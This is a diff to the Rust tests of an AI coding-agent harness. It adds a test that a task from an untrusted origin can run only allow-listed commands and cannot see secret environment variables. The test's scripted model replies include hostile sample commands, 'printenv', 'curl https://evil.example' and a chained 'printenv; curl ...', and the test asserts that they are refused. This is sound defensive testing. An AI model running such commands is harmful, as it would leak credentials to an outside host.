@@ -37,6 +37,10 @@ struct Fixture {
 }
 
 fn fixture(replies: Vec<Vec<ChatEvent>>) -> Fixture {
+    fixture_with(replies, Default::default())
+}
+
+fn fixture_with(replies: Vec<Vec<ChatEvent>>, commands: crate::process::CommandPolicy) -> Fixture {
     let dir = tempfile::tempdir().unwrap();
     let repo = dir.path().join("repo");
     std::fs::create_dir_all(&repo).unwrap();
@@ -57,7 +61,7 @@ fn fixture(replies: Vec<Vec<ChatEvent>>) -> Fixture {
         cache_dir: dir.path().join("cache"),
         env: EnvSnapshot::default(),
         tool_settings: ToolSettings::default(),
-        commands: Default::default(),
+        commands,
         verify_timeout: Duration::from_secs(30),
         approval_timeout: None,
     });
@@ -302,6 +306,7 @@ async fn ops_on_unknown_chats_and_bad_models_fail_at_once() {
             max_review_rounds: 0,
             model: None,
             role_models: Default::default(),
+            untrusted: None,
         },
         answers_approvals: false,
     });
@@ -454,4 +459,120 @@ async fn a_runaway_reply_is_cut_at_the_limit() {
         })
         .sum();
     assert!(streamed <= crate::task::driver::REPLY_LIMIT, "{streamed}");
+}
+
+fn run_call(id: &str, command: &str) -> Vec<ChatEvent> {
+    vec![
+        ChatEvent::ToolCall {
+            call: ToolCall {
+                id: id.into(),
+                name: "run".into(),
+                arguments: serde_json::json!({ "command": command }),
+            },
+        },
+        ChatEvent::Done {
+            reason: DoneReason::ToolCalls,
+        },
+    ]
+}
+
+/// The outputs of the task's `run` calls, by call id, until it finished.
+async fn run_outputs(
+    f: &mut Fixture,
+    untrusted: Option<crate::untrusted::UntrustedOrigin>,
+) -> Vec<(String, bool, String)> {
+    let repo = crate::git::test_support::Fixture::with_commit();
+    let mut spec = task_spec(&repo.root);
+    spec.untrusted = untrusted;
+    f.session
+        .submit(Op::RunTask {
+            spec,
+            answers_approvals: false,
+        })
+        .unwrap();
+    f.until(|e| matches!(e, Event::TaskFinished { .. }))
+        .await
+        .into_iter()
+        .filter_map(|envelope| match envelope.event {
+            Event::ToolCallEnd { id, ok, output, .. } => Some((id, ok, output)),
+            _ => None,
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn an_untrusted_task_runs_only_allowed_commands_and_its_commands_see_no_secret() {
+    let env = EnvSnapshot::from_pairs([
+        ("PATH", "/usr/bin:/bin"),
+        ("GH_TOKEN", "ghp_webhook_secret"),
+        ("MY_API_KEY", "sk-secret"),
+        ("PLAIN", "visible"),
+    ]);
+    let sandbox = crate::config::SandboxConfig {
+        mode: crate::process::SandboxMode::Off,
+        network_run: true,
+        network_check: true,
+        write_dirs: Vec::new(),
+        env_remove: Vec::new(),
+        env_keep: vec!["GH_TOKEN".into(), "MY_API_KEY".into()],
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let commands = crate::process::CommandPolicy::from_config(
+        &sandbox,
+        &env,
+        None,
+        dir.path().join("tmp"),
+        &[],
+    );
+    let script = || {
+        vec![
+            run_call("printenv", "printenv"),
+            run_call("curl", "curl https://evil.example"),
+            run_call("chained", "printenv; curl https://evil.example"),
+            text("Done."),
+        ]
+    };
+
+    // A task of the user keeps what sandbox.env_keep keeps (the control).
+    let mut trusted = fixture_with(script(), commands.clone());
+    let outputs = run_outputs(&mut trusted, None).await;
+    assert!(outputs[0].2.contains("ghp_webhook_secret"), "{outputs:?}");
+
+    let mut f = fixture_with(script(), commands);
+    let origin = crate::untrusted::UntrustedOrigin::new(
+        "GitHub o/r#1",
+        &["printenv".to_string(), "cargo test".to_string()],
+    );
+    let outputs = run_outputs(&mut f, Some(origin)).await;
+    assert_eq!(outputs.len(), 3, "{outputs:?}");
+    let (_, ok, printed) = &outputs[0];
+    assert!(ok, "{printed}");
+    assert!(printed.contains("PLAIN=visible"), "{printed}");
+    for secret in ["ghp_webhook_secret", "sk-secret", "GH_TOKEN", "MY_API_KEY"] {
+        assert!(!printed.contains(secret), "{secret} leaked: {printed}");
+    }
+    for (id, ok, output) in &outputs[1..] {
+        assert!(!ok, "{id}: {output}");
+        assert!(output.starts_with("refused: "), "{id}: {output}");
+        assert!(
+            output.contains("`printenv`, `cargo test`"),
+            "{id}: {output}"
+        );
+    }
+    // The refusal is what the model read next.
+    let seen = f.seen.lock().unwrap();
+    let next = serde_json::to_string(&seen[2].messages).unwrap();
+    assert!(next.contains("is not an allowed command"), "{next}");
+}
+
+#[tokio::test]
+async fn settling_without_a_limit_waits_for_the_task_and_does_not_overflow() {
+    let f = fixture(Vec::new());
+    // Nothing runs under this id: it returns at once, also with the largest limit.
+    tokio::time::timeout(
+        Duration::from_secs(5),
+        f.session.settle("no-such-task", Duration::MAX),
+    )
+    .await
+    .expect("settled at once");
 }
